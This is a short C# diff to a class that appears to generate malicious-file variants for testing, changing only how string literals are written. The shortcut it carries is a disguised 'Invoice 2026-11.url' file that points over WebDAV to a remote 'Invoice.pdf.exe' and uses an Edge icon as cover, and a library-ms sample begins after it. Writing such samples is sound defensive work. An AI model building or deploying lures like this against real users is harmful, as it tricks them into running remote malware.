@@ -7,7 +7,7 @@ public sealed class ShortcutTexts : SeventhRound
 {
     public override IEnumerable<(string Name, byte[] Content)> Variants() =>
     [
-        ("Invoice 2026-11.url", Dos(@"
+        ("Invoice 2026-11.url", Dos("""
             [InternetShortcut]
             URL=file://\\198.51.100.77@80\webdav\invoice\Invoice.pdf.exe
             IDList=
@@ -16,7 +16,7 @@ public sealed class ShortcutTexts : SeventhRound
             IconFile=C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe
             [{000214A0-0000-0000-C000-000000000046}]
             Prop3=19,9
-            ".Replace("            ", "", StringComparison.Ordinal).TrimStart())),
+            """)),
         ("Документи.library-ms", Dos("""
             <?xml version="1.0" encoding="UTF-8"?>
             <libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
